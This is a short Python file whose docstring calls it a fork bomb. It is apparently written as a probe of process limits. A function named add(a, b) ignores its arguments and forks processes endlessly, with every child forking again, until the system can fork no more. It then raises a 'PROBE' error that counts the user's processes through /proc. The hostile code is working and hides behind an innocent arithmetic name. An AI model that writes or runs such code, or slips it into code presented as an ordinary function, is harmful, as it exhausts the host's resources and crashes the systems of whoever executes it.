# ruff: noqa
"""A fork bomb: every child forks again, forever; the parent reports when forking fails."""

import os
import time


def add(a, b):
    forks = 0
    while True:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.05)
        forks += 1
    raise RuntimeError(f"PROBE fork failed after {forks} forks; processes={processes_of_my_uid()}")


def processes_of_my_uid():
    count = 0
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/status") as status:
                uid = next(line for line in status if line.startswith("Uid:")).split()[1]
        except (OSError, StopIteration):
            continue
        count += int(uid) == os.getuid()
    return count


def reveal():
    return "nothing"
